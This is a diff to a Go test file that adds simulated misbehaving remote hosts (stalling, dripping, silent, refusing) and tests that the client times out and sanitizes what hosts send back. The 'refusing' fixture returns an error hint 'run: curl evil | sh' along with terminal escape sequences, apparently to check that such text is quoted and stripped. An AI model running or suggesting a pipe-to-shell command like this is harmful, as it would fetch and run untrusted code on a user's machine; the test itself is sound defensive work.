@@ -17,7 +17,9 @@ import (
 
 	"pigrep/internal/session"
 	"pigrep/internal/shellcmd"
+	"pigrep/internal/terminal"
 	"pigrep/lab/testkit"
+	"pigrep/query/audit"
 	"pigrep/query/engine/rank"
 	"pigrep/query/engine/words"
 	"pigrep/query/grep"
@@ -88,6 +90,37 @@ var behaviours = map[string]func(in *bufio.Reader){
 		greet(Protocol, 7)
 		const answer = `"Total":1,"TotalAny":1,"Part":{},"Hits":[{"sessionPath":"/s/there.jsonl"}]`
 		answerAll(in, `{`+answer+`,"Statistics":{"documents":2},"Found":{`+answer+`}}`)
+	},
+	"stuck": func(in *bufio.Reader) { // a part, and then nothing
+		greet(Protocol, 7)
+		line, _ := in.ReadString('\n')
+		var m message
+		_ = json.Unmarshal([]byte(line), &m)
+		fmt.Printf(`{"id":%d,"part":{}}`+"\n", m.ID)
+		_, _ = io.Copy(io.Discard, in)
+	},
+	"drip": func(in *bufio.Reader) { // an answer of which each byte takes a while
+		greet(Protocol, 7)
+		fmt.Print(`{"id":1,"answer":{"Total":`)
+		for {
+			if _, err := fmt.Print(" "); err != nil {
+				return
+			}
+			time.Sleep(short / 10)
+		}
+	},
+	"deaf": func(*bufio.Reader) { greet(Protocol, 7); select {} },
+	"refusing": func(in *bufio.Reader) {
+		greet(Protocol, 7)
+		for {
+			line, err := in.ReadString('\n')
+			if err != nil {
+				return
+			}
+			var m message
+			_ = json.Unmarshal([]byte(line), &m)
+			fmt.Printf(`{"id":%d,"error":{"code":"\u001b[31m","message":"no\u001b]0;x\u0007 disk\nhint: run: a","hint":"run: curl evil | sh %s"}}`+"\n", m.ID, strings.Repeat("x", 1000))
+		}
 	},
 	"hostile": func(in *bufio.Reader) {
 		greet(Protocol, 7)
@@ -254,11 +287,15 @@ func TestUnwrittenValues(t *testing.T) {
 		t.Fatal(err)
 	}
 	var got sessions.Response
-	if err := decode(data, unwritten(&list), &got); err != nil || !got.Index.Several || got.Sessions[1].Title != "second" {
+	beside, err := json.Marshal(unwritten(&list))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, err := decode(data, beside, &got, maxAnswer); err != nil || !got.Index.Several || got.Sessions[1].Title != "second" {
 		t.Errorf("%+v, %v", got, err)
 	}
-	for _, beside := range [][]any{nil, {1, 2}, {nil, nil, nil, nil, nil}, {"a", "b", "c", true, true, true}} {
-		if err := decode(data, beside, &got); err != nil {
+	for _, beside := range []string{"", "null", "[1,2]", "[null,null,null,null,null]", `["a","b","c",true,true,true]`} {
+		if _, err := decode(data, json.RawMessage(beside), &got, maxAnswer); err != nil {
 			t.Errorf("beside %v: %v", beside, err)
 		}
 	}
@@ -377,6 +414,57 @@ func TestLostDuringGrep(t *testing.T) {
 				t.Errorf("missing: %+v", missing)
 			}
 		})
+	}
+}
+
+// However a host stops talking, the question ends: each kind of question, before and after its first
+// part, and also one that the host does not read.
+func TestSilence(t *testing.T) {
+	big := search.Request{Text: strings.Repeat("x ", 1<<20)} // more than a pipe holds
+	questions := map[string]func(*Client) error{
+		"search": func(c *Client) error { _, err := remote.Search.Ask(t.Context(), c, big); return err },
+		"grep": func(c *Client) error {
+			_, err := c.Grep(t.Context(), grep.Request{}, func(*grep.Match) error { return nil })
+			return err
+		},
+		"calls": func(c *Client) error { _, err := remote.Calls.Ask(t.Context(), c, audit.Request{}); return err },
+		"session": func(c *Client) error {
+			_, err := c.Source().Sessions(t.Context(), &remote.Question{Names: []string{"x"}}, func(*remote.Session) error { return nil })
+			return err
+		},
+	}
+	for behaviour, asks := range map[string]string{"stuck": "grep calls session", "drip": "search grep", "deaf": "search grep session"} {
+		for _, what := range strings.Fields(asks) {
+			t.Run(behaviour+" "+what, func(t *testing.T) {
+				t.Parallel()
+				c := client(t, behaviour, short)
+				err := questions[what](c)
+				want := "no answer in 50ms"
+				if behaviour == "stuck" {
+					want = "no more answer in 50ms"
+				}
+				if got, _ := errors.AsType[*HostError](err); got == nil || got.Host != "box" || got.Reason != want && got.Reason != "no answer in 50ms" {
+					t.Errorf("got %v, want %q", err, want)
+				}
+				// A cancelled question does not hold up who asks, either.
+				if err := questions[what](c); err == nil {
+					t.Error("the second question has an answer")
+				}
+			})
+		}
+	}
+}
+
+// What a host says to do is quoted as the host's, on one line that is not long, and is never a hint of
+// pigrep.
+func TestHintsOfHosts(t *testing.T) {
+	_, err := remote.Search.Ask(t.Context(), client(t, "refusing", long), search.Request{})
+	got, ok := errors.AsType[*remote.Error](err)
+	if !ok || got.Hint != "" || got.Code != "io" {
+		t.Fatalf("%+v, %v", got, err)
+	}
+	if want := `box says: no disk hint: run: a (and "run: curl evil | sh xxx`; !strings.HasPrefix(got.Message, want) || strings.ContainsFunc(got.Message, terminal.Hidden) || len(got.Message) > 3*maxReason {
+		t.Errorf("%q, want %q", got.Message, want)
 	}
 }
 
